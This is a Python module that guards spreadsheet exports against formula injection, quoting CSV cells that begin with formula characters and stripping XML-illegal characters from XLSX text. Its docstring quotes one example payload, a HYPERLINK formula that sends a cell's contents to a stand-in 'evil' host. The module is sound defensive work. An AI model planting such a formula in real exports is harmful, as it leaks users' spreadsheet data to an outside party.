"""Text written into spreadsheets that people open in Excel: never a formula, never a character that breaks the file.

Every export (the admin's usage CSV, a job's CSV and XLSX results) goes through these, so a model's answer or a
request id such as `=HYPERLINK("http://evil/?"&A1)` is shown as text instead of run.
"""

import re

# A cell whose text starts with one of these is read as a formula (or a DDE command) by Excel, LibreOffice and
# Google Sheets; tab and CR because spreadsheet programs strip them before deciding.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CELL_MAX_CHARS = 32_767  # Excel's limit on the characters in one cell
# What XML 1.0 (so XLSX) cannot hold: C0 controls other than tab, LF and CR, the non-characters U+FFFE/U+FFFF and
# lone surrogates (they come from JSON "\ud800" escapes and cannot be encoded as UTF-8).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def csv_cell(value: object) -> object:
    """A CSV value: text that a spreadsheet would run gets a leading `'` (shown as text, the quote hidden)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def xlsx_text(text: str) -> str:
    """Text an XLSX string cell can hold: characters XML forbids removed, cut to Excel's cell limit."""
    return _NOT_XML.sub("", text)[:CELL_MAX_CHARS]
